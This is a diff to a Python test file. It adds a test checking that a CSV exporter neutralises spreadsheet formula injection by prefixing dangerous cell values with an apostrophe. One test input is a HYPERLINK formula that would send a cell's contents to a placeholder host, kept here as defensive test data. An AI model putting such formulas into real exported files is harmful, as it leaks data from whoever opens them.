@@ -16,7 +16,7 @@ from pathlib import Path
 import pytest
 
 from ionrouter.api import stats
-from ionrouter.api.row_stream import PIECE_BYTES, JsonRows, in_pieces
+from ionrouter.api.row_stream import PIECE_BYTES, CsvRows, JsonRows, in_pieces
 from ionrouter.stats.book import SeriesKey, StatsBook
 from ionrouter.stats.classes import CLASSES
 from ionrouter.stats.query import Question, Row, steps
@@ -176,3 +176,12 @@ async def test_who_reads_slowly_holds_up_no_other_answer(tmp_path: Path) -> None
             assert len(await anext(pieces)) >= PIECE_BYTES  # and the rest is not fetched
             _, _, told = await server.get(f"{BY_HOUR}&limit=3")
             assert len(told["data"]) == 3
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/"&A1)', "+1", "-2", "@SUM(A1)"])
+def test_no_name_is_a_formula_to_who_opens_the_csv(name: str) -> None:
+    write = CsvRows()
+    text = write.row({"model": name, "requests": -1, "cost": -0.5}) + write.end(is_truncated=False)
+    assert list(csv.DictReader(io.StringIO(text.decode()))) == [
+        {"model": f"'{name}", "requests": "-1", "cost": "-0.5"}
+    ]
